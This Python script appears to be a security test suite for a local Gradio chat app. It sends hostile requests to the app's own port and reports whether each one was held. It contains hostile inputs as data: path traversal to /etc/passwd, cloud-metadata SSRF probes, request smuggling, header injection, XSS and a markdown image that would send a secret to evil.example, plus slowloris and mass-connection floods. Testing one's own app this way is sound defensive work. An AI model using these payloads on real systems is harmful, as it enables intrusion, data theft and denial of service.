"""Attacks on a running app, as other accounts of the machine, other sites and odd clients would
make them: `python -m tests.attack PORT [--token T]`.

Prints one line for each attack, and exits with 0 only if all were held. After each one the app must
still answer. With the token of the app, attacks are also made by a page that is in; one of them
writes a message, so give the app an empty data folder. Takes about as long as the app lets a
connection be silent, plus a minute with `--slow`.

To add an attack: a function in ATTACKS that raises AssertionError if it succeeds.
"""

from __future__ import annotations

import argparse
import json
import re
import socket
import sys
import time
import uuid
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from typing import Any

import httpx

from rlhf_chat.ui.entry import Entry

HOST = "127.0.0.1"
PATIENCE = 20.0  # seconds, for an answer while other things run
RUN, JOIN, DATA = "/gradio_api/run/predict", "/gradio_api/queue/join", "/gradio_api/queue/data"
LINK = {
    "Sec-Fetch-Site": "cross-site",
    "Sec-Fetch-Mode": "navigate",
    "Sec-Fetch-Dest": "document",
}


@dataclass
class Target:
    port: int
    token: str = ""
    slow: bool = False
    stranger: httpx.Client = field(init=False)
    insider: httpx.Client = field(init=False)  # the stranger again, without a token

    def __post_init__(self) -> None:
        settings: Any = {"base_url": f"http://{HOST}:{self.port}", "timeout": PATIENCE}
        self.stranger = httpx.Client(**settings)
        cookies = {Entry(self.port).cookie_name: self.token} if self.token else {}
        self.insider = httpx.Client(**settings, cookies=cookies)

    def close(self) -> None:
        self.stranger.close()
        self.insider.close()

    def raw(self, request: str | bytes, seconds: float = PATIENCE) -> bytes:
        """What the app says to these bytes until it ends the connection, or b"" at once if it
        does so without a word. Paths are sent as they are; httpx would tidy them."""
        data = request.encode("latin-1") if isinstance(request, str) else request
        with socket.create_connection((HOST, self.port), timeout=seconds) as connection:
            connection.sendall(data)
            return _until_closed(connection, seconds)

    def get(self, path: str, *headers: str) -> bytes:
        """The raw answer to a page that is in."""
        cookie = f"Cookie: {Entry(self.port).cookie_name}={self.token}"
        lines = (f"GET {path} HTTP/1.1", f"Host: {HOST}:{self.port}", cookie, *headers)
        return self.raw("\r\n".join((*lines, "Connection: close", "", "")))

    def alive(self) -> None:
        answer = httpx.get(f"http://{HOST}:{self.port}/proof?nonce=alive", timeout=PATIENCE)
        assert answer.status_code == 200, "the app no longer answers"


def _until_closed(connection: socket.socket, seconds: float) -> bytes:
    told, until = b"", time.monotonic() + seconds
    try:
        while time.monotonic() < until and (more := connection.recv(65536)):
            told += more
    except ConnectionError:
        pass
    return told


def status(answer: bytes) -> int:
    """0 if the connection was ended without a word."""
    return int(answer[9:12]) if answer else 0


def refused(answer: httpx.Response, *statuses: int) -> None:
    """A stranger is told 401 whatever is asked."""
    assert answer.status_code in (*statuses, 401), f"{answer.request.url}: {answer.status_code}"
    assert "Traceback" not in answer.text


# ---- who may enter -----------------------------------------------------------------------------


def no_token(to: Target) -> None:
    for method, path in (
        ("GET", "/"),
        ("GET", "/config"),
        ("GET", "/theme.css"),
        ("GET", "/loading.json"),
        ("GET", "/gradio_api/app_id"),
        ("GET", f"{DATA}?session_hash=x"),
        ("POST", RUN),
        ("POST", JOIN),
        ("POST", "/gradio_api/run/search"),
        ("POST", "/gradio_api/upload"),
    ):
        answer = to.stranger.request(
            method, path, json={"data": ["a"]} if method == "POST" else None
        )
        assert answer.status_code == 401, f"{method} {path}: {answer.status_code}"
        assert "set-cookie" not in answer.headers and "gradio_config" not in answer.text


def guessed_token(to: Target) -> None:
    name = Entry(to.port).cookie_name
    for guess in ("", "x", "0" * 43, "%00", to.token[:-1], to.token + "x", to.token.swapcase()):
        if guess and guess == to.token:
            continue
        assert to.stranger.get("/", params={"token": guess}).status_code == 401
        headers = {"Cookie": f"{name}={guess}"}
        assert to.stranger.get("/", headers=headers).status_code == 401


def token_elsewhere(to: Target) -> None:
    """It opens the page, by GET, and nothing else."""
    word = to.token or "x"
    for method, path in (("POST", "/"), ("GET", "/config"), ("GET", "/theme.css"), ("POST", RUN)):
        assert to.stranger.request(method, path, params={"token": word}).status_code == 401
    for headers in (
        {"Authorization": f"Bearer {word}"},
        {"Cookie": f"rlhf_chat_{to.port + 1}={word}"},
    ):
        assert to.stranger.get("/theme.css", headers=headers).status_code == 401


def api_without_its_token(to: Target) -> None:
    """It has one of its own: that of the window opens nothing there. 404 where the API is off."""
    paths = ("models", "feedback", "versions", "training", "export", "%2e%2e/config", "../config")
    for client in (to.stranger, to.insider):
        for bearer in (
            "",
            "Bearer",
            "Bearer x",
            f"Bearer {to.token or 0}",
            "Basic eDp4",
            "Bearer \xff",
        ):
            headers = {"Authorization": bearer.encode("latin-1")}
            for path in paths:
                answer = client.get(f"/v1/{path}", headers=headers)
                refused(answer, 404)
            refused(client.post("/v1/chat/completions", headers=headers, json={}), 404)
    refused(to.insider.get("/v1/models", headers={"Origin": "http://evil.example"}), 403)
    assert status(_with_host(to, "/v1/models", "evil.example")) == 400


def forged_ticket(to: Target) -> None:
    """From what anybody may ask the app to sign."""
    head = f"{int(time.time()) + 60}.{uuid.uuid4().hex}"
    for text in (head, f"ticket {head}"[:64]):
        signed = to.stranger.get("/proof", params={"nonce": text}).text
        assert to.stranger.get("/", params={"token": f"{head}.{signed}"}).status_code == 401


def ticket_used_twice(to: Target) -> None:
    if to.token:
        address = Entry(to.port, token=to.token).ticket_address()
        assert httpx.get(address, timeout=PATIENCE).status_code == 200
        assert httpx.get(address, timeout=PATIENCE).status_code == 401


def token_in_an_answer(to: Target) -> None:
    told = [to.insider.get(path).text for path in ("/", "/theme.css", "/nothing", "/manifest.json")]
    told.append(to.stranger.get("/", params={"token": f"{to.token}x"}).text.replace("x", ""))
    assert not to.token or not any(to.token in one for one in told)


# ---- another site ------------------------------------------------------------------------------


def dns_rebinding(to: Target) -> None:
    for host in (
        "evil.example",
        f"evil.example:{to.port}",
        "127.0.0.1.evil.example",
        "localhost.evil.example",
        "127.0.0.1:80@evil.example",
        "0.0.0.0",
        "",
    ):
        for path in ("/", RUN, "/manifest.json", "/proof?nonce=x"):
            answer = _with_host(to, path, host)
            assert status(answer) in (0, 400), f"{host} {path}: {status(answer)}"


def _with_host(to: Target, path: str, host: str) -> bytes:
    cookie = f"{Entry(to.port).cookie_name}={to.token}"
    head = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\nConnection: close\r\n\r\n"
    return to.raw(head)


def foreign_origin(to: Target) -> None:
    for origin in (
        "https://evil.example",
        "null",
        f"http://{HOST}:1",
        "http://localhost",
        "file://",
    ):
        for path in (RUN, JOIN, "/gradio_api/upload"):
            answer = to.insider.post(path, headers={"Origin": origin}, json={})
            refused(answer, 403)
            assert "access-control-allow-origin" not in answer.headers


def cross_site_request(to: Target) -> None:
    """A form or an image of another site: without Origin, but browsers say where it comes from."""
    for site in ("cross-site", "same-site"):
        for path in (RUN, JOIN):
            headers = {"Sec-Fetch-Site": site, "Content-Type": "text/plain"}
            refused(to.insider.post(path, headers=headers, content=b'{"data": []}'), 403)
        for kind in ("image", "script", "style", "empty", "iframe"):
            headers = {"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": kind}
            for path in ("/", "/theme.css", "/pwa_icon/512"):
                refused(to.insider.get(path, headers=headers), 403)


def link_from_another_site(to: Target) -> None:
    for path in ("/theme.css", "/pwa_icon/20000", f"{DATA}?session_hash=x", "/gradio_api/app_id"):
        refused(to.insider.get(path, headers=LINK), 403)


def preflight(to: Target) -> None:
    for client in (to.stranger, to.insider):
        for origin in ("https://evil.example", f"http://{HOST}:1", f"http://{HOST}:{to.port}"):
            for path in ("/", RUN, "/anything"):
                headers = {
                    "Origin": origin,
                    "Access-Control-Request-Method": "POST",
                    "Access-Control-Request-Headers": "content-type",
                }
                answer = client.options(path, headers=headers)
                refused(answer, 403, 404)
                assert not any(name.startswith("access-control") for name in answer.headers)


def framing(to: Target) -> None:
    for answer in (to.insider.get("/"), to.stranger.get("/"), to.insider.get("/nothing")):
        assert answer.headers["x-frame-options"] == "DENY"
        assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]


def calls_out(to: Target) -> None:
    """What the page of a hostile reply could load from elsewhere."""
    policy = to.insider.get("/").headers["content-security-policy"]
    sources = {one.split()[0]: one.split()[1:] for one in policy.split("; ")}
    assert not any(re.search(r"\*|http|//", s) for values in sources.values() for s in values)
    assert "'self'" not in sources["img-src"], "a reply could ask the app itself for an image"
    assert to.insider.get("/").headers["referrer-policy"] == "no-referrer"


def open_redirect(to: Target) -> None:
    for path in ("//evil.example", "/\\evil.example", "/%2f%2fevil.example", "/theme.css/", "//"):
        answer = to.get(path).lower()
        assert b"\r\nlocation:" not in answer, path


def header_injection(to: Target) -> None:
    for path in (
        "/?token=%0d%0aSet-Cookie:%20a=b",
        "/%0d%0aSet-Cookie:%20a=b",
        "/?__theme=%0d%0aX:y",
    ):
        answer = to.get(path).lower()
        assert b"\r\nset-cookie: a" not in answer and b"\r\nx:y" not in answer


# ---- what Gradio has beside the page -----------------------------------------------------------


def unused_routes(to: Target) -> None:
    for method, path in (
        ("GET", "/config"),
        ("GET", "/gradio_api/info"),
        ("GET", "/gradio_api/openapi.json"),
        ("GET", "/gradio_api/heartbeat/x"),
        ("GET", "/gradio_api/dev/reload"),
        ("GET", "/gradio_api/runs"),
        ("GET", "/monitoring"),
        ("GET", "/docs"),
        ("GET", "/openapi.json"),
        ("GET", "/login_check"),
        ("GET", "/logout"),
        ("POST", "/login"),
        ("POST", "/gradio_api/cancel"),
        ("POST", "/gradio_api/reset"),
        ("POST", "/gradio_api/api/predict"),
        ("POST", "/gradio_api/call/send"),
        ("POST", "/gradio_api/run/search"),
        ("POST", "/gradio_api/run/send"),
        ("POST", "/gradio_api/component_server"),
        ("POST", "/gradio_api/vibe-edit"),
        ("POST", "/gradio_api/process_recording"),
        ("GET", "/gradio_api/mcp/"),
        ("GET", "/robots.txt"),
    ):
        refused(to.insider.request(method, path), 404)


def traversal(to: Target) -> None:
    for path in (
        "/../../../../etc/passwd",
        "/assets/../../../../../../etc/passwd",
        "/assets/..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
        "/assets/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/assets/....//....//etc/passwd",
        "/assets/..\\..\\..\\etc\\passwd",
        "/assets//etc/passwd",
        "/assets/.",
        "/assets/..",
        "/static/%2e%2e/%2e%2e/routes.py",
        "/static//etc/passwd",
        "/gradio_api/file=/etc/passwd",
        "/gradio_api/file=feedback.db",
        "/gradio_api/file=instance.json",
        "/gradio_api/file/../../etc/passwd",
        "/theme.css/../../etc/passwd",
        "/theme.css%00.html",
        "/feedback.db",
        "/instance.json",
    ):
        answer = to.get(path)
        assert status(answer) in (400, 401, 404, 405), f"{path}: {status(answer)}"
        assert b"root:" not in answer and b"SQLite format" not in answer


def proxying(to: Target) -> None:
    for path in (
        "/gradio_api/proxy=https://example.com",
        f"/gradio_api/proxy=http://{HOST}:{to.port}/config",
        "/proxy=https://evil.hf.space/x",
        "/gradio_api/file=http://169.254.169.254/latest/meta-data",
        f"/gradio_api/file=http://{HOST}:{to.port}/",
        f"http://{HOST}:{to.port}/config",
        "http://evil.example/",
    ):
        assert status(to.get(path)) in (400, 401, 404), path


def upload(to: Target) -> None:
    file = {"files": ("a.html", b"<script>alert(1)</script>", "text/html")}
    for path in ("/gradio_api/upload", "/gradio_api/upload?upload_id=x", "/upload"):
        refused(to.insider.post(path, files=file), 404)
    refused(to.insider.post(RUN, files=file), 400, 404, 415, 422)


def huge_icons(to: Target) -> None:
    began = time.monotonic()
    for size in (
        "20000",
        "100000",
        "-1",
        "0",
        "1e9",
        "512.0",
        "0512",
        "192/..",
        "99999999999999999",
    ):
        refused(to.insider.get(f"/pwa_icon/{size}"), 404)
    assert time.monotonic() - began < PATIENCE


# ---- odd requests ------------------------------------------------------------------------------


def odd_methods(to: Target) -> None:
    for method in ("PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "OPTIONS", "X" * 300):
        for path in ("/", RUN, "/theme.css", "/nothing"):
            refused(to.insider.request(method, path), 404)
    for line in ("CONNECT evil.example:443 HTTP/1.1", "OPTIONS * HTTP/1.1", "get / HTTP/1.1"):
        assert (
            status(to.raw(f"{line}\r\nHost: {HOST}:{to.port}\r\nConnection: close\r\n\r\n")) >= 400
        )


def no_http(to: Target) -> None:
    for data in (
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 500,  # TLS
        b"\0" * 70000,
        b"GET\r\n\r\n",
        b"GET / HTTP/9.9\r\n\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\nConnection: close\r\n\r\n",
        b"GET / HTTP/1.1\r\nNo colon\r\n\r\n",
        b"\r\n" * 1000 + b"GET / HTTP/1.1\r\n\r\n",
    ):
        answer = to.raw(data)
        assert status(answer) in (0, 400, 401, 404, 431, 505), answer[:60]


def odd_headers(to: Target) -> None:
    for header in (
        "X: " + "a" * 200_000,
        "\r\n".join(f"X-{i}: a" for i in range(5000)),
        "Cookie: " + "; ".join(f"a{i}=b" for i in range(1000)),
        "Accept-Language: " + ",".join(["zz;q=0.1"] * 1500),
        "Accept-Encoding: " + ",".join(["br;q=x"] * 1500),
        "Range: bytes=" + ",".join(f"{i}-" for i in range(1500)),
        "Expect: 100-continue",
    ):
        assert status(to.get("/theme.css", header)) in (0, 200, 206, 400, 401, 416, 431), header[
            :40
        ]
    assert status(to.get("/?" + "a" * 100_000)) in (0, 400, 401, 414)
    assert status(to.get("/?" + "token=a&" * 2000)) in (0, 200, 400, 401, 414)


def smuggling(to: Target) -> None:
    """Two lengths: what follows must not be taken for another request."""
    inner = "GET /theme.css HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    for lengths in (
        "Content-Length: 4\r\nTransfer-Encoding: chunked",
        "Content-Length: 4\r\nContent-Length: 400",
        "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        "Content-Length: -1",
        "Content-Length: 1e3",
        "Content-Length: 99999999999999999999999",
    ):
        head = f"POST {RUN} HTTP/1.1\r\nHost: {HOST}:{to.port}\r\nConnection: close\r\n{lengths}"
        answer = to.raw(f"{head}\r\n\r\n0\r\n\r\n{inner}")
        assert status(answer) in (0, 400, 401, 411, 413, 501), f"{lengths!r}: {status(answer)}"
        assert answer.count(b"HTTP/1.1") <= 1, lengths


def oversized_body(to: Target) -> None:
    cookie = f"{Entry(to.port).cookie_name}={to.token}"
    lines = f"POST {RUN} HTTP/1.1\r\nHost: {HOST}:{to.port}\r\nCookie: {cookie}\r\n"
    announced = f"{lines}Connection: close\r\nContent-Length: {1 << 40}\r\n\r\n"
    assert status(to.raw(announced)) in (401, 413)
    mebibyte = b"100000\r\n" + b" " * 0x100000 + b"\r\n"
    _is_ended(to, [f"{lines}Transfer-Encoding: chunked\r\n\r\n"], mebibyte)


def compressed_body(to: Target) -> None:
    headers = {"Content-Type": "application/json", "Content-Encoding": "gzip"}
    refused(
        to.insider.post(RUN, headers=headers, content=b"\x1f\x8b" + b"\0" * 1000), 400, 404, 422
    )


def odd_json(to: Target) -> None:
    number = next(iter(_handlers(to).values()), 0)
    for body in (
        b"",
        b"{",
        b"null",
        b"[]",
        b"[" * 100_000,
        b'{"a":' * 50_000,
        b'{"fn_index": 1e999, "data": []}',
        b'{"fn_index": -1, "data": []}',
        b'{"fn_index": 99999, "data": [], "session_hash": "x"}',
        b'{"fn_index": "0", "data": {}, "session_hash": ["x"]}',
        b'{"data": [NaN, Infinity], "fn_index": 0}',
        b'{"data": ["\\ud800"], "fn_index": 0, "session_hash": "\\u0000"}',
        b"\xff\xfe\x00",
        json.dumps({"fn_index": number, "data": ["x"] * 5000, "session_hash": "x"}).encode(),
        json.dumps({"fn_index": number, "data": [{"path": "/etc/passwd"}] * 3}).encode(),
        json.dumps({"fn_index": number, "data": [], "trigger_id": "x", "event_id": "y"}).encode(),
        b'{"data": [' + b"9" * 100_000 + b'], "fn_index": 0}',
    ):
        for path in (RUN, JOIN):
            for kind in ("application/json", "text/plain", "multipart/form-data; boundary=x"):
                answer = to.insider.post(path, content=body, headers={"Content-Type": kind})
                assert answer.status_code < 600 and "Traceback" not in answer.text
                assert "root:" not in answer.text and "site-packages" not in answer.text


def websocket(to: Target) -> None:
    upgrade = ("Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: " + "A" * 24)
    for path in ("/", "/queue/join", JOIN, "/gradio_api/stream/x"):
        lines = (f"GET {path} HTTP/1.1", f"Host: {HOST}:{to.port}", "Connection: Upgrade", *upgrade)
        with socket.create_connection((HOST, to.port), timeout=PATIENCE) as connection:
            connection.sendall("\r\n".join((*lines, "", "")).encode())
            assert b" 101 " not in connection.recv(100), path


def queue(to: Target) -> None:
    """Waiting for another's words, and filling the queue."""
    for session in ("", "0" * 10_000, "../x", uuid.uuid4().hex):
        answer = to.insider.get(DATA, params={"session_hash": session})
        assert "process_" not in answer.text, f"{session[:20]}: {answer.text[:200]}"
    body = {"fn_index": 99999, "data": []}
    address, cookies = str(to.insider.base_url.join(JOIN)), dict(to.insider.cookies)

    def join(_: int) -> int:
        one = {**body, "session_hash": uuid.uuid4().hex}
        return httpx.post(address, json=one, cookies=cookies, timeout=PATIENCE).status_code

    with ThreadPoolExecutor(16) as pool:
        told = set(pool.map(join, range(200)))
    assert told <= {401, 404, 503}, told
    refused(to.insider.post(JOIN, json={**body, "fn_index": 0}), 400, 404, 422, 500)


# ---- slowness and numbers ----------------------------------------------------------------------


def slow_headers(to: Target) -> None:
    _is_ended(to, [f"GET / HTTP/1.1\r\nHost: {HOST}:{to.port}\r\n"] * 8, b"X: y\r\n")


def slow_body_of_a_stranger(to: Target) -> None:
    head = f"POST {RUN} HTTP/1.1\r\nHost: {HOST}:{to.port}\r\nContent-Length: 1000000\r\n\r\n"
    _is_ended(to, [head] * 8, b"x")


def slow_body_of_a_page(to: Target) -> None:
    """The app grants it a minute."""
    if to.slow and to.token:
        cookie = f"Cookie: {Entry(to.port).cookie_name}={to.token}\r\n"
        head = f"POST {RUN} HTTP/1.1\r\nHost: {HOST}:{to.port}\r\n{cookie}"
        _is_ended(to, [f"{head}Content-Length: 1000000\r\n\r\n"], b" ", seconds=90)


def _is_ended(to: Target, heads: list[str], drop: bytes, seconds: float = 3 * PATIENCE) -> None:
    """Sends a drop now and then on all connections, until the app ends them."""
    until = time.monotonic() + seconds
    held = [socket.create_connection((HOST, to.port), timeout=PATIENCE) for _ in heads]
    try:
        for connection, head in zip(held, heads, strict=True):
            connection.sendall(head.encode())
        open_ones = list(held)
        while open_ones:
            assert time.monotonic() < until, f"{len(open_ones)} were never ended"
            time.sleep(0.2)
            open_ones = [one for one in open_ones if _takes(one, drop)]
    finally:
        for connection in held:
            connection.close()


def _takes(connection: socket.socket, drop: bytes) -> bool:
    try:
        connection.sendall(drop)
    except OSError:
        return False
    return True


def many_connections(to: Target) -> None:
    """More than the app holds; when they are gone or ended it answers again."""
    held = []
    try:
        for _ in range(700):
            held.append(socket.create_connection((HOST, to.port), timeout=PATIENCE))
    except OSError:
        pass  # refused is fine
    until = time.monotonic() + 3 * PATIENCE
    try:
        while True:
            try:
                to.alive()
                return
            except httpx.TransportError:
                assert time.monotonic() < until, "silent connections kept the app from answering"
                time.sleep(0.2)
    finally:
        for connection in held:
            connection.close()


# ---- text --------------------------------------------------------------------------------------

MARKUP = (
    "![x](http://evil.example/?q=secret) <img src=http://evil.example/a> "
    "<script>alert(1)</script> <svg onload=alert(1)> ![y](/pwa_icon/512)"
)


def markup_in_a_reply(to: Target) -> None:
    """Of a toy that repeats what it is told, or of the person's own message: what the page is sent
    to draw holds no tag and no image."""
    number = _handlers(to).get("send")
    if number is None:
        return
    session = uuid.uuid4().hex[:10]
    body: dict[str, Any] = {"fn_index": number, "session_hash": session}
    body["data"] = _as_laid_out(to, number)
    body["data"][0], body["data"][2] = f"echo {MARKUP}", uuid.uuid4().hex
    assert to.insider.post(JOIN, json=body).status_code == 200
    drawn = 0
    with to.insider.stream("GET", DATA, params={"session_hash": session}, timeout=600) as lines:
        for line in lines.iter_lines():
            told = json.loads(line[6:]) if line.startswith("data: ") else {}
            for text in _contents(told.get("output") or {}):
                drawn += 1
                assert not re.search(r"<(img|script|svg)|(?<!\\)!\[", text), text
            if told.get("msg") == "process_completed":
                break
    assert drawn, "nothing was drawn"


def _contents(part: Any) -> list[str]:
    """Texts of a chatbot's messages, which are markdown."""
    if isinstance(part, dict) and part.get("type") == "text" and isinstance(part.get("text"), str):
        return [part["text"]]
    inner = part.values() if isinstance(part, dict) else part if isinstance(part, list) else ()
    return [text for one in inner for text in _contents(one)]


def _handlers(to: Target) -> dict[str, int]:
    """Names and numbers of what the page can call; none for a stranger."""
    return {str(one["api_name"]): int(one["id"]) for one in _layout(to)["dependencies"]}


def _as_laid_out(to: Target, number: int) -> list[Any]:
    """What the page sends to a handler before anybody did anything."""
    layout = _layout(to)
    values = {one["id"]: one["props"].get("value") for one in layout["components"]}
    (takes,) = [one["inputs"] for one in layout["dependencies"] if one["id"] == number]
    return [values[one] for one in takes]


def _layout(to: Target) -> dict[str, Any]:
    page = to.insider.get("/").text
    found = re.search(r"window\.gradio_config = (\{.*?\});</script>", page, re.S)
    empty: dict[str, Any] = {"dependencies": [], "components": []}
    return json.loads(found[1]) if found else empty


ATTACKS: tuple[Callable[[Target], None], ...] = (
    no_token,
    guessed_token,
    token_elsewhere,
    api_without_its_token,
    forged_ticket,
    ticket_used_twice,
    token_in_an_answer,
    dns_rebinding,
    foreign_origin,
    cross_site_request,
    link_from_another_site,
    preflight,
    framing,
    calls_out,
    open_redirect,
    header_injection,
    unused_routes,
    traversal,
    proxying,
    upload,
    huge_icons,
    odd_methods,
    no_http,
    odd_headers,
    smuggling,
    oversized_body,
    compressed_body,
    odd_json,
    websocket,
    queue,
    markup_in_a_reply,
    slow_headers,
    slow_body_of_a_stranger,
    slow_body_of_a_page,
    many_connections,
)


def run(to: Target, attacks: tuple[Callable[[Target], None], ...] = ATTACKS) -> list[str]:
    """Names of the attacks that succeeded; says the outcome of each."""
    succeeded = []
    for attack in attacks:
        name = attack.__name__.replace("_", " ")
        try:
            attack(to)
            to.alive()
            print(f"held    {name}", flush=True)
        except Exception as error:  # whatever it is, nothing was shown to hold
            succeeded.append(name)
            print(f"FAILED  {name}: {type(error).__name__} {str(error)[:300]}", flush=True)
    return succeeded


def main() -> int:
    parser = argparse.ArgumentParser(prog="python -m tests.attack", description=__doc__)
    parser.add_argument("port", type=int)
    parser.add_argument(
        "--token", default="", help="of the app: what stands after token= in Ready at"
    )
    parser.add_argument("--slow", action="store_true", help="also what the app grants a minute")
    args = parser.parse_args()
    target = Target(args.port, args.token, args.slow)
    try:
        target.alive()
    except httpx.HTTPError as error:
        raise SystemExit(f"Nothing answers on port {args.port}: {error}") from None
    try:
        return 1 if run(target) else 0
    finally:
        target.close()


if __name__ == "__main__":
    sys.exit(main())
